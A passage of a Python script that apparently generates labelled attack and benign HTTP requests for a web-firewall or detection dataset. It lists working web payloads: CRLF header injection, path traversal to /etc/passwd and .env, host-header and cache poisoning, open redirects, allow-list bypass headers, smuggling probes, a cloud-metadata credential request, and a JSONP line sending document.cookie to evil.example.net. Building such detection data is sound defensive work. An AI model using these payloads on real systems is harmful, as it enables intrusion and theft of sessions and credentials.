        c.add("hop-by-hop-abuse", "protocol-attack", "GET", path, ahdr(R, R.choice(SITES), extra=extra))


def attacks_protocol_structured(c):
    R = c.R
    killer = "bytes=0-," + ",".join("5-%d" % i for i in range(1300))
    c.add("range-abuse", "protocol", "HEAD", "/", ahdr(R, "www.example.com", ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)", extra=[
        ("Range", killer), ("Accept-Encoding", "gzip"), ("Connection", "close")]))
    c.add("range-abuse", "protocol", "GET", "/iisstart.htm", ahdr(R, "portal.example.org", extra=[
        ("Range", "bytes=0-18446744073709551615")]))
    c.add("range-abuse", "protocol", "GET", "/downloads/setup.exe", ahdr(R, "media.example.com", extra=[
        ("Request-Range", "bytes=0-," + ",".join("1-%d" % i for i in range(250)))]))
    c.add("bad-content-length", "protocol", "POST", "/upload", ahdr(R, "media.example.com", extra=[
        ("Content-Type", "application/octet-stream"), ("Content-Length", "99999999999999999999")]))
    c.add("bad-content-length", "protocol", "POST", "/api/v1/echo", ahdr(R, "api.example.com", extra=[
        ("Content-Type", "application/json"), ("Content-Length", "-1")]))
    c.add("oversized-header", "protocol", "GET", "/static/js/main.js?cb=4410", ahdr(R, "cdn.example.net", extra=[
        ("X-Oversized-Header-1", "x" * 9000)]))
    c.add("oversized-header", "protocol", "GET", "/", ahdr(R, "www.example.com", extra=[
        ("X-Pad-%03d" % i, "a" * 64) for i in range(1, 121)]))
    chain = ", ".join(docip(R) for _ in range(500)) + ", 127.0.0.1"
    c.add("oversized-header", "protocol", "POST", "/login", ahdr(R, "accounts.example.com", extra=[
        ("Content-Type", "application/x-www-form-urlencoded"), ("X-Forwarded-For", chain)]),
        "username=admin&password=admin")
    c.add("oversized-header", "protocol", "GET", "/account", ahdr(R, "accounts.example.com", extra=[
        ("Cookie", "; ".join("c%d=%s" % (i, "A" * 100) for i in range(180)))]))
    c.add("conflicting-headers", "protocol", "POST", "/api/v1/profile", ahdr(R, "api.example.com", extra=[
        ("Content-Type", "application/json"), ("Content-Type", "application/x-www-form-urlencoded")]),
        "{\"role\":\"admin\"}&role=admin")
    c.add("conflicting-headers", "protocol", "GET", "/admin/", ahdr(R, "intranet.example.org", extra=[
        ("Authorization", "Basic YWRtaW46YWRtaW4="), ("Authorization", "Bearer " + hexs(R, 32))]))


def attacks_crlf(c):
    R = c.R
    items = [
        ("GET", "/redirect?url=https://www.example.com/%0d%0aSet-Cookie:%20sessionid=attacker", None),
        ("GET", "/%0d%0aSet-Cookie:crlf=injection", None),
        ("GET", "/login?next=/%0D%0ALocation:%20https://evil.example.net", None),
        ("GET", "/logout?return=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html"
                "%0d%0aContent-Length:%2025%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", None),
        ("GET", "/lang?set=en%0d%0aX-XSS-Protection:%200", None),
        ("GET", "/%E5%98%8A%E5%98%8DSet-Cookie:%20test=1", None),
        ("GET", "/search?q=x%u000d%u000aSet-Cookie:x=1", None),
        ("GET", "/go?to=%250d%250aLocation:%20//evil.example.org", None),
        ("GET", "/track?id=42%0aSet-Cookie:%20tracking=evil", None),
        ("GET", "/page?view=list%0dRefresh:%200;url=https://evil.example.net", None),
        ("GET", "/?%0d%0aAccess-Control-Allow-Origin:%20https://evil.example.net%0d%0aAccess-Control-Allow-Credentials:%20true", None),
        ("GET", "/profile?tab=info%0d%0a%09Set-Cookie:%20role=admin", None),
        ("GET", "/%0d%0a%0d%0a%3Csvg%20onload=alert(document.domain)%3E", None),
        ("POST", "/account/login", "redirect_to=/account%0d%0aRefresh:%200;url=https://evil.example&user=a&pass=b"),
        ("POST", "/api/v1/webhooks", "{\"callback_url\":\"https://www.example.com/cb\\r\\nSet-Cookie: admin=1\",\"events\":[\"order\"]}"),
        ("GET", "/download?filename=report.pdf%0d%0aContent-Disposition:%20attachment;filename=evil.html", None),
        ("GET", "/%c4%8d%c4%8aSet-Cookie:%20unicode=crlf", None),
        ("GET", "/out?to=https%3A%2F%2Fpartner.example.org%0D%0ASet-Cookie%3A%20x%3D1", None),
        ("GET", "/settings?theme=dark%0d%0aSet-Cookie:%20session=fixated-session-id;%20Path=/", None),
        ("GET", "/api/download?name=a%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3E%3Cscript%3Ealert(1)%3C/script%3E", None),
        ("GET", "/en-US%0d%0aX-Forwarded-Host:%20evil.example/", None),
        ("GET", "/static/%0d%0aX-Accel-Redirect:%20/internal/secret.txt", None),
        ("GET", "/%c0%8d%c0%8aSet-Cookie:%20overlong=1", None),
        ("GET", "/r?u=/%0D%0ALocation:%20javascript:alert(1)%0D%0A", None),
        ("GET", "/image?src=a.png%0d%0aLink:%20%3Chttps://evil.example.org/x.css%3E;rel=stylesheet", None),
        ("GET", "/%23%0d%0aSet-Cookie:%20hash=1", None),
    ]
    for method, uri, body in items:
        extra = []
        if body is not None:
            extra.append(("Content-Type", "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"))
        c.add("crlf-injection", "crlf", method, uri, ahdr(R, R.choice(SITES), extra=extra), body)

    # CRLF (encoded) inside header-derived values
    hv = [
        ("/", [("X-Forwarded-Host", "www.example.com%0d%0aX-Injected:%201")]),
        ("/api/v1/status", [("X-Request-ID", "abc123%0d%0aSet-Cookie:%20a=b")]),
        ("/home", [("Accept-Language", "en%0d%0aSet-Cookie:%20lang=evil")]),
        ("/account", [("Cookie", "lang=en%0d%0aLocation:%20https://evil.example.org")]),
        ("/", [("Referer", "https://www.example.com/%0d%0aX-Frame-Options:%20ALLOW-FROM%20https://evil.example")]),
        ("/api/items", [("X-Correlation-ID", "7d1f\\r\\nContent-Length: 0\\r\\n\\r\\nHTTP/1.1 200 OK")]),
    ]
    for path, extra in hv:
        c.add("header-crlf", "crlf", "GET", path, ahdr(R, R.choice(SITES), extra=extra))

    # obs-fold continuation lines and bare CR / LF inside header sections (raw)
    def ua():
        return R.choice(ATTACK_UAS)
    folds = [
        ("GET /admin HTTP/1.1", ["Host: intranet.example.org", "User-Agent: " + ua(), "X-Forwarded-For: 203.0.113.9\r\n 127.0.0.1"]),
        ("GET /password/reset HTTP/1.1", ["Host: accounts.example.com\r\n\tevil.example.net", "User-Agent: " + ua()]),
        ("GET /dashboard HTTP/1.1", ["Host: app.example.net", "User-Agent: Mozilla/5.0\r\n X-Original-URL: /admin", "Accept: */*"]),
        ("GET /account HTTP/1.1", ["Host: www.example.com", "User-Agent: " + ua(), "Cookie: session=abc\r\n\tsession=admin; role=administrator"]),
        ("GET /out HTTP/1.1", ["Host: blog.example.org", "User-Agent: " + ua(), "Referer: https://blog.example.org/\r\n Location: https://evil.example.org/"]),
    ]
    for line, hs in folds:
        c.raw("obs-fold", "crlf", rawreq(line, hs))
    bare = [
        ("GET /admin/users HTTP/1.1", ["Host: portal.example.org", "User-Agent: " + ua(), "X-Request-ID: 42\nX-Forwarded-For: 127.0.0.1"], b""),
        ("GET / HTTP/1.1", ["Host: www.example.com", "User-Agent: " + ua(), "X-Request-ID: 43\rX-Original-URL: /admin"], b""),
        ("GET /reset HTTP/1.1", ["Host: accounts.example.com", "User-Agent: Mozilla/5.0\rHost: evil.example.net"], b""),
        ("GET /home HTTP/1.1", ["Host: shop.example.com", "User-Agent: " + ua(), "X-Foo: bar\n\nGET /admin HTTP/1.1\nHost: localhost"], b""),
        ("POST /api/v1/notes HTTP/1.1", ["Host: api.example.com", "User-Agent: " + ua(), "Content-Type: text/plain\nContent-Length: 0",
                                          "Content-Length: {CL}"], "GET /api/admin/dump HTTP/1.1\r\nX: y"),
    ]
    for line, hs, body in bare:
        c.raw("bare-cr-lf", "crlf", rawreq(line, hs, body))


def attacks_paths(c):
    R = c.R
    lfi = [
        "/static/..;/WEB-INF/web.xml",
        "/..;/..;/..;/etc/passwd",
        "/assets/..%2f..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/images/..%c0%af..%c0%af..%c0%afetc/passwd",
        "/files/%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/shadow",
        "/static\\..\\..\\..\\windows\\win.ini",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
        "/api/me%2f..%2f..%2f..%2f.env",
        "/public/..%252f..%252f..%252fetc/passwd",
        "/assets/....//....//....//etc/passwd",
        "/static/%2e%2e%2f%2e%2e%2fapp%2fconfig%2fdatabase.yml",
        "/uploads/..%5c..%5c..%5cweb.config",
        "/static/..;/..;/actuator/heapdump",
        "/resources/..%u2215..%u2215..%u2215etc/passwd",
        "/files/..%e2%88%95..%e2%88%95..%e2%88%95etc/passwd",
        "/assets../settings.py",
        "/static../.env",
        "/.%2e/.%2e/.%2e/proc/self/environ",
        "/..%c1%9c..%c1%9c..%c1%9cboot.ini",
        "/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir",
        "/docs/..;/conf/tomcat-users.xml",
        "/;/../WEB-INF/web.xml",
        "/admin/..;/",
        "/api/v1/..%2f..%2fadmin/config.json",
        "/%2e/WEB-INF/web.xml",
        "/web.config::$DATA",
        "/WEB-INF./web.xml",
        "/static/%2e%2e;/WEB-INF/classes/application.properties",
    ]
    for p in lfi:
        c.add("path-normalisation-file", "lfi", "GET", p, ahdr(R, R.choice(SITES)))

    admin = [
        "//admin//users",
        "/%2e/admin",
        "/ADMIN/Users/Delete?id=3",
        "/admin./",
        "/admin%20/",
        "/admin;foo=bar/settings",
        "/admin/.;/users",
        "/;/admin/",
        "/adm%69n/config",
        "/.;/admin/",
        "/admin%00/",
        "/actuator;/env",
        "/actuator%2fenv",
    ]
    for p in admin:
        c.add("path-normalisation-acl", "generic", "GET", p, ahdr(R, R.choice(SITES)))


def attacks_generic(c):
    R = c.R

    # ---- host header attacks
    reset_body = "email=victim%40example.com"
    c.add("host-header", "generic", "POST", "/account/forgot-password", ahdr(R, "evil.example.net", extra=[
        ("Content-Type", "application/x-www-form-urlencoded")]), reset_body)
    c.add("host-header", "generic", "POST", "/password/reset", ahdr(R, "www.example.com", extra=[
        ("X-Forwarded-Host", "attacker.example.net"), ("Content-Type", "application/x-www-form-urlencoded")]),
        "username=victim&csrf=Tm9UaGlzSXNDc3Jm")
    c.add("host-header", "generic", "POST", "/users/password", ahdr(R, "accounts.example.com", extra=[
        ("X-Host", "evil.example.org"), ("Content-Type", "application/json")]),
        "{\"user\":{\"email\":\"victim@example.com\"}}")
    c.add("host-header", "generic", "POST", "/api/auth/forgot", ahdr(R, "app.example.net", extra=[
        ("X-Forwarded-Server", "evil.example.net"), ("Content-Type", "application/json")]),
        "{\"email\":\"cfo@example.net\"}")
    c.add("host-header", "generic", "POST", "/reset-password", ahdr(R, "portal.example.org", extra=[
        ("X-HTTP-Host-Override", "attacker.example.net"), ("Content-Type", "application/x-www-form-urlencoded")]),
        "email=it-admin%40example.org")
    c.add("host-header", "generic", "POST", "/account/recover", ahdr(R, "shop.example.com", extra=[
        ("Forwarded", "host=evil.example.org;proto=https"), ("Content-Type", "application/x-www-form-urlencoded")]),
        "login=victim")
    c.add("host-header", "generic", "GET", "/login", ahdr(R, "www.example.com:@evil.example.net"))
    c.add("host-header", "generic", "GET", "/", ahdr(R, "www.example.com:evil.example.net"))
    c.add("host-header", "generic", "POST", "/forgot", ahdr(R, "accounts.example.com.evil.example.net", extra=[
        ("Content-Type", "application/x-www-form-urlencoded")]), "email=victim%40example.com&submit=1")
    c.add("host-header", "generic", "GET", "/admin", ahdr(R, "localhost"))
    c.add("host-header", "generic", "GET", "/internal/", ahdr(R, "127.0.0.1:8080"))
    c.add("host-header", "generic", "GET", "/latest/meta-data/iam/security-credentials/", ahdr(R, "169.254.169.254"))
    c.add("host-header", "generic", "GET", "http://evil.example.net/password/reset?token=", ahdr(R, "www.example.com"))
    c.add("host-header", "generic", "GET", "http://localhost/admin/", ahdr(R, "www.example.com"))
    c.add("host-header", "generic", "GET", "https://10.0.0.5:8443/manager/status", ahdr(R, "portal.example.org"))
    c.add("host-header", "generic", "GET", "/", ahdr(R, "\"><script>alert(document.domain)</script>"))
    c.add("host-header", "generic", "GET", "/account", ahdr(R, "www.example.com evil.example.org"))
    c.add("host-header", "generic", "GET", "/signup", ahdr(R, "www.example.com, evil.example.net"))
    dup = [
        ("GET /password/reset HTTP/1.1", ["Host: accounts.example.com", "Host: evil.example.net"]),
        ("GET / HTTP/1.1", ["Host:www.example.com", "Host:  attacker.example.net"]),
        ("GET /admin HTTP/1.1", ["Host: portal.example.org", "HOST: localhost"]),
        ("GET /login HTTP/1.1", ["Host: shop.example.com", "Host : evil.example.org"]),
    ]
    for line, hs in dup:
        c.raw("duplicate-host", "generic", rawreq(line, hs + ["User-Agent: " + R.choice(ATTACK_UAS), "Accept: */*"]))

    # ---- web cache poisoning via unkeyed inputs
    cp = [
        ("GET", "/?cb=8812", [("X-Forwarded-Host", "evil.example.net\"><script>alert(document.domain)</script>")], None),
        ("GET", "/static/main.js", [("X-Forwarded-Scheme", "http")], None),
        ("GET", "/en/home?cb=1093", [("X-Forwarded-Proto", "http"), ("X-Forwarded-Host", "evil.example.org")], None),
        ("GET", "/", [("X-Original-URL", "/admin")], None),
        ("GET", "/static/x", [("X-Rewrite-URL", "/admin/users")], None),
        ("GET", "/?cb=5521", [("X-Original-URL", "/admin/delete?user=1")], None),
        ("GET", "/js/geolocate.js?callback=setCountryCookie", [("Content-Type", "application/x-www-form-urlencoded")],
         "callback=alert(document.cookie)"),
        ("GET", "/search?q=shoes", [("Content-Type", "application/x-www-form-urlencoded")],
         "q=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("GET", "/js/geolocate.js?callback=setCountryCookie&utm_content=foo;callback=alert(1)", [], None),
        ("GET", "/jsonp/user?callback=cb&utm_source=x;callback=fetch('//evil.example.net/'+document.cookie)", [], None),
        ("GET", "/catalog?cb=77", [("X-Forwarded-Prefix", "/\"><script>alert(1)</script>")], None),
        ("GET", "/", [("Cookie", "fehost=\"-alert(1)-\"")], None),
        ("GET", "/resources/js/tracking.js", [("X-Forwarded-SSL", "off"), ("Front-End-Https", "off")], None),
        ("GET", "/en?region=us", [("X-Url-Scheme", "http"), ("X-Forwarded-Port", "1337\"><img src=x onerror=alert(1)>")], None),
        ("GET", "/dashboard", [("X-Middleware-Subrequest", "middleware:middleware:middleware:middleware:middleware")], None),
        ("GET", "/products/42?__nextDataReq=1", [("x-now-route-matches", "1"), ("x-invoke-status", "200")], None),
        ("GET", "/?cb=3301", [("X-Original-Host", "evil.example.net"), ("Origin", "https://evil.example.net")], None),
    ]
    for method, uri, extra, body in cp:
        c.add("cache-poisoning", "generic", method, uri, ahdr(R, R.choice(SITES), extra=extra), body)

    # ---- web cache deception
    cd = [
        "/account/settings/x.css",
        "/profile;.js",
        "/api/me%2f..%2fstatic.css",
        "/my-account/wcd.css",
        "/account%23wcd.css",
        "/billing/invoices%3f.js",
        "/api/v2/session/current%3b.png",
        "/account.php/nonexistent.css",
        "/profile/edit;/robots.txt",
        "/static/..%2faccount%2fsettings",
        "/account/api-keys%0a.js",
    ]
    for p in cd:
        c.add("cache-deception", "generic", "GET", p, ahdr(R, R.choice(SITES), accept=ACCEPT_HTML, extra=[
            ("Cookie", "session=" + hexs(R, 32))]))

    # ---- open redirects
    orr = [
        "/login?next=//evil.example",
        "/redirect?url=/\\evil.example",
        "/out?to=https:evil.example",
        "/auth/callback?return_to=%2f%2fevil.example.net%2f",
        "/logout?redirect=https://www.example.com@evil.example.net",
        "/go?url=https://www.example.com.evil.example.net/",
        "/redirect?u=/%09/evil.example.org",
        "/r?dest=%5c%5cevil.example.net",
        "/sso/acs?RelayState=https://evil.example.net/phish",
        "/oauth/authorize?client_id=web&response_type=code&redirect_uri=https://evil.example.net/cb",
        "/oauth/authorize?client_id=mobile&response_type=token&redirect_uri=https://app.example.com.evil.example.org/",
        "/link?target=%68%74%74%70%73%3a%2f%2fevil.example.net",
        "/redirect?url=https%3A%2F%2Fevil.example.net%252f%252e%252e",
        "//evil.example.net/%2F..",
        "/%5cevil.example.org/",
        "/login?continue=https://evil.example.net%23.www.example.com/",
        "/track?url=https://evil%E3%80%82example%E3%80%82net",
        "/go?url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ]
    for p in orr:
        c.add("open-redirect", "generic", "GET", p, ahdr(R, R.choice(SITES), accept=ACCEPT_HTML))

    # ---- IP spoofing headers to get past allow-lists
    spoof = [
        ("/admin", [("X-Forwarded-For", "127.0.0.1")]),
        ("/internal/metrics", [("X-Real-IP", "10.0.0.5")]),
        ("/actuator/env", [("X-Client-IP", "127.0.0.1")]),
        ("/server-status", [("True-Client-IP", "127.0.0.1")]),
        ("/admin/login", [("CF-Connecting-IP", "127.0.0.1")]),
        ("/api/internal/users", [("X-Originating-IP", "[127.0.0.1]")]),
        ("/debug/vars", [("X-Remote-Addr", "127.0.0.1")]),
        ("/phpmyadmin/", [("X-Forwarded-For", "::1")]),
        ("/manage/health/details", [("X-Forwarded-For", "127.0.0.1, 203.0.113.50")]),
        ("/admin/", [("Forwarded", "for=127.0.0.1;proto=https")]),
        ("/admin/panel", [("Client-IP", "0177.0.0.1")]),
        ("/jmx-console/", [("X-Forwarded-For", "2130706433")]),
        ("/admin/reports", [("Fastly-Client-IP", "10.0.0.1")]),
        ("/metrics", [("X-ProxyUser-Ip", "192.168.0.1")]),
        ("/admin/users", [("X-Custom-IP-Authorization", "127.0.0.1")]),
    ]
    for p, extra in spoof:
        c.add("ip-spoofing", "generic", "GET", p, ahdr(R, R.choice(SITES), extra=extra))
    c.add("ip-spoofing", "generic", "POST", "/api/login", ahdr(R, "api.example.com", extra=[
        ("Content-Type", "application/json"), ("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1")]),
        "{\"username\":\"admin\",\"password\":\"Winter2024!\"}")


def attacks_scanner(c):
    R = c.R
    bypass_ip = ["X-Originating-IP", "X-Forwarded-For", "X-Forwarded", "Forwarded-For", "X-Remote-IP",
                 "X-Remote-Addr", "X-ProxyUser-Ip", "Client-IP", "True-Client-IP", "Cluster-Client-IP",
                 "X-Client-IP", "X-Real-IP", "X-Custom-IP-Authorization", "X-Original-Remote-Addr",
                 "X-Trusted-IP", "Real-Ip", "X-Host", "X-Forwarded-Host"]
    bypass_url = ["X-Original-URL", "X-Rewrite-URL", "Base-Url", "Http-Url", "Proxy-Url", "Redirect",
                  "Request-Uri", "Uri", "Url", "X-Http-Destinationurl", "X-Proxy-Url", "Referer"]
    sprays = [
        ("/admin", "127.0.0.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"),
        ("/server-status", "localhost", "byp4xx"),
        ("/actuator", "0.0.0.0", "Go-http-client/1.1"),
        ("/.git/config", "10.0.0.1", "python-requests/2.28.2"),
        ("/console", "2130706433", "Mozilla/5.0 (compatible; 403bypasser)"),
        ("/internal/api", "0", "curl/8.1.2"),
    ]
    for i, (path, val, ua) in enumerate(sprays):
        extra = []
        names = bypass_ip if i % 2 == 0 else bypass_ip[:10]
        for n in names:
            extra.append((n, val))
        if i in (0, 2, 4):
            for n in bypass_url:
                extra.append((n, path if n != "Referer" else "https://%s%s" % (val, path)))
        c.add("403-bypass-spray", "scanner", "GET", path, ahdr(R, R.choice(SITES), ua=ua, extra=extra))

    variants = [
        ("/private/%2e/", "byp4xx"),
        ("/internal/..;/", "Mozilla/5.0 (compatible; 4-ZERO-3)"),
        ("/manage/*", "byp4xx"),
        ("/secret/%252e/", "Mozilla/5.0 (compatible; 4-ZERO-3)"),
    ]
    for p, ua in variants:
        c.add("403-bypass-path", "scanner", "GET", p, ahdr(R, R.choice(SITES), ua=ua))

    nuclei = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei"
    c.add("nuclei-probe", "scanner", "GET", "/%0D%0ASet-Cookie:crlfinjection=crlfinjection", ahdr(R, "www.example.com", ua=nuclei))
    c.add("nuclei-probe", "scanner", "GET", "/?x=2q7v", ahdr(R, "shop.example.com", ua=nuclei, extra=[
        ("X-Forwarded-Host", "2q7vmyjd1ll4.oast.example.net"), ("X-Host", "2q7vmyjd1ll4.oast.example.net")]))
    c.add("nuclei-probe", "scanner", "GET", "/redirect?url=https%3A%2F%2Foast.example.net", ahdr(R, "app.example.net", ua=nuclei))
    c.add("crlfuzz", "scanner", "GET", "/%E5%98%8D%E5%98%8ASet-Cookie:crlfuzz=1337", ahdr(R, "portal.example.org", ua="crlfuzz/1.4.1"))
    c.add("crlfuzz", "scanner", "GET", "/?%0d%0aSet-Cookie:crlfuzz=1337", ahdr(R, "blog.example.org", ua="crlfuzz/1.4.1"))
    c.add("param-miner", "scanner", "GET", "/?cb=kq2x8ri", ahdr(R, "www.example.com", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", extra=[
        ("X-Forwarded-Host", "kq2x8ri.oast.example.net"), ("X-Forwarded-Scheme", "nothttps"),
        ("X-Forwarded-Port", "kq2x8ri"), ("X-Original-URL", "/kq2x8ri"), ("X-Rewrite-URL", "/kq2x8ri"),
        ("X-Forwarded-Prefix", "/kq2x8ri"), ("X-Host", "kq2x8ri.oast.example.net")]))
    c.add("openredirex", "scanner", "GET", "/redirect?url=%2F%2F%2Fevil.example.net%2F%2E%2E", ahdr(R, "shop.example.com", ua="OpenRedireX/2.0"))
    c.add("nmap-probe", "scanner", "TRACE", "/nmaplowercheck1715681234", ahdr(R, "www.example.com",
          ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
    c.add("nikto-probe", "scanner", "GET", "/", ahdr(R, "127.0.0.1", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000519)"))
    c.add("vhost-fuzz", "scanner", "GET", "/", ahdr(R, "admin.internal.localhost", ua="Fuzz Faster U Fool v2.1.0-dev"))
    c.add("vhost-fuzz", "scanner", "GET", "/", ahdr(R, "staging.localdomain", ua="gobuster/3.6"))

    # smuggling scanners' timing probes (raw)
    probe_ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    c.raw("smuggling-probe", "scanner", rawreq("POST / HTTP/1.1", [
        "Host: www.example.com", "User-Agent: " + probe_ua, "Content-Type: application/x-www-form-urlencoded",
        "Transfer-Encoding: chunked", "Content-Length: 4"], "1\r\nA\r\nX"))
    c.raw("smuggling-probe", "scanner", rawreq("POST /?cb=0.8712 HTTP/1.1", [
        "Host: shop.example.com", "User-Agent: " + probe_ua, "Content-Type: application/x-www-form-urlencoded",
        "Content-Length: 6", "Transfer-Encoding: chunked"], "0\r\n\r\nX"))
    c.raw("smuggling-probe", "scanner", rawreq("POST / HTTP/1.1", [
        "Host: api.example.com", "User-Agent: Python-urllib/3.10", "Content-Type: application/x-www-form-urlencoded",
        "Content-Length: 5", "Transfer-Encoding:\x0cchunked"], "1\r\nZ\r\nQ\r\n\r\n"))


def gen_attacks(c):
    attacks_smuggling(c)
    attacks_methods_hops(c)
    attacks_protocol_structured(c)
    attacks_crlf(c)
    attacks_paths(c)
    attacks_generic(c)
    attacks_scanner(c)


# ---------------------------------------------------------------------------
# benign
# ---------------------------------------------------------------------------

def bh(R, host, ua=None, accept=ACCEPT_HTML, extra=(), lang=True, enc=None):
    ua = ua or R.choice(BROWSERS)
    h = [("Host", host), ("User-Agent", ua), ("Accept", accept)]
    if lang:
        h.append(("Accept-Language", lang if isinstance(lang, str) else R.choice(LANGS)))
    h.append(("Accept-Encoding", enc or ("gzip, deflate, br, zstd" if "Chrome" in ua else "gzip, deflate, br")))
    h.extend(extra)
    return h


def sh(R, host, ua, accept="application/json", extra=()):
    h = [("Host", host), ("User-Agent", ua), ("Accept", accept), ("Accept-Encoding", "gzip")]
    h.extend(extra)
    return h


SDKS = [
    "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/1.1", "axios/1.6.8", "curl/8.5.0",
    "PostmanRuntime/7.37.3", "Apache-HttpClient/4.5.14 (Java/17.0.10)", "Dart/3.3 (dart:io)",
    "python-httpx/0.27.0", "Faraday v2.9.0", "Java-http-client/21.0.2", "node", "Ruby",
    "Stripe/v1 RubyBindings/10.14.0", "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64",
]


def etag(R, weak=False):
    t = '"%s"' % (hexs(R, 8) + "-" + hexs(R, 4) if R.random() < 0.5 else hexs(R, 32))
    return ("W/" + t) if weak else t


def benign_edges(c):
    R = c.R
    # ---- absolute-form request targets (forward proxies, apt, pip)
    squid = lambda: [("Via", "1.1 proxy.example.net (squid/6.6)"), ("X-Forwarded-For", docip(R)),
                     ("Cache-Control", "max-age=259200")]
    c.add("absolute-form", "benign", "GET", "http://www.example.com/index.html", bh(R, "www.example.com", extra=squid()))
    c.add("absolute-form", "benign", "GET", "http://api.example.com:8080/v1/status",
          sh(R, "api.example.com:8080", "Go-http-client/1.1", extra=[("Proxy-Connection", "keep-alive")]))
    c.add("absolute-form", "benign", "GET", "http://shop.example.com/catalog?page=2&sort=price",
          bh(R, "shop.example.com", extra=[("Proxy-Connection", "keep-alive")]))
    c.add("absolute-form", "benign", "HEAD", "http://media.example.com/downloads/app-2.4.1.dmg",
          sh(R, "media.example.com", "curl/8.5.0", accept="*/*"))
    c.add("absolute-form", "benign", "GET", "http://deb.example.org/debian/dists/bookworm/InRelease",
          [("Host", "deb.example.org"), ("Cache-Control", "max-age=0"), ("If-Modified-Since", httpdate(R)),
           ("User-Agent", "Debian APT-HTTP/1.3 (2.6.1)")])
    c.add("absolute-form", "benign", "GET", "http://pypi.example.org/simple/requests/",
          [("Host", "pypi.example.org"), ("User-Agent", "pip/24.0 {\"ci\":null,\"cpu\":\"x86_64\",\"implementation\":{\"name\":\"CPython\",\"version\":\"3.11.8\"},\"installer\":{\"name\":\"pip\",\"version\":\"24.0\"}}"),
           ("Accept-Encoding", "gzip, deflate"), ("Accept", "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"),
           ("Cache-Control", "max-age=0")])
    c.add("absolute-form", "benign", "POST", "http://api.example.com/v1/telemetry",
          sh(R, "api.example.com", "okhttp/4.12.0", extra=[("Content-Type", "application/json; charset=utf-8")]),
          json.dumps({"device": "SM-A546B", "app": "2.14.0", "events": [{"t": "app_open", "ts": 1715681234}]}))
    c.add("absolute-form", "benign", "GET", "http://cdn.example.net/assets/app.css?v=20240514",
          bh(R, "cdn.example.net", accept="text/css,*/*;q=0.1", extra=squid()))

    # ---- OPTIONS
    c.add("options", "benign", "OPTIONS", "*", [("Host", "www.example.com"),
          ("User-Agent", "Apache/2.4.58 (Debian) OpenSSL/3.0.11 (internal dummy connection)")])
    c.add("options", "benign", "OPTIONS", "*", [("Host", "api.example.com"), ("User-Agent", "curl/8.5.0"),
          ("Accept", "*/*"), ("Max-Forwards", "0")])
    c.add("options", "benign", "OPTIONS", "/api/v1/", sh(R, "api.example.com", "python-requests/2.31.0"))
    c.add("options", "benign", "OPTIONS", "/files/reports/", sh(R, "portal.example.org", "Microsoft-WebDAV-MiniRedir/10.0.19045", accept="*/*", extra=[("Translate", "f")]))

    # ---- CORS preflights
    origins = ["https://app.example.com", "https://www.example.org", "https://dev.example.com:3000",
               "https://admin.example.net", "https://checkout.example.com", "null"]
    pre = [
        ("/api/v1/orders/8812", "PATCH", "authorization,content-type,x-request-id"),
        ("/api/v1/orders", "POST", "content-type"),
        ("/graphql", "POST", "apollo-require-preflight,content-type"),
        ("/v2/files/3f9a", "DELETE", "authorization"),
        ("/api/cart/items/17", "PUT", "content-type,x-csrf-token"),
        ("/api/v1/profile", "PATCH", "authorization,content-type,idempotency-key,traceparent"),
        ("/upload/resumable?uploadType=resumable", "PUT", "content-range,content-type,x-upload-content-length"),
        ("/api/search", "GET", "x-api-key,x-client-version"),
        ("/realtime/negotiate?negotiateVersion=1", "POST", "x-requested-with,x-signalr-user-agent"),
        ("/api/v3/subscriptions/sub_1Nx", "DELETE", "authorization,stripe-version"),
        ("/oauth/token", "POST", "content-type,dpop"),
        ("/api/telemetry", "POST", "content-type,sentry-trace,baggage"),
        ("/api/v2/documents/42/lock", "POST", "authorization,if-match"),
        ("/api/v1/devices", "GET", "authorization"),
        ("/api/v1/export", "POST", "authorization,content-type,accept-language"),
        ("/api/internal-network/printers", "GET", "content-type"),
    ]
    for i, (path, m, rh) in enumerate(pre):
        ua = R.choice(BROWSERS)
        o = origins[i % len(origins)] if i != 5 else "null"
        extra = [("Origin", o), ("Access-Control-Request-Method", m), ("Access-Control-Request-Headers", rh),
                 ("Sec-Fetch-Mode", "cors"), ("Sec-Fetch-Site", "same-site" if "example.com" in o else "cross-site"),
                 ("Sec-Fetch-Dest", "empty")]
        if o != "null":
            extra.append(("Referer", o + "/"))
        if i == 15:
            extra.append(("Access-Control-Request-Private-Network", "true"))
        c.add("cors-preflight", "benign", "OPTIONS", path, bh(R, R.choice(["api.example.com", "api.example.net", "files.example.org"]),
                                                              ua=ua, accept="*/*", extra=extra))

    # ---- HEAD
    heads = [
        ("/downloads/app-2.4.1.dmg", "curl/8.5.0", []),
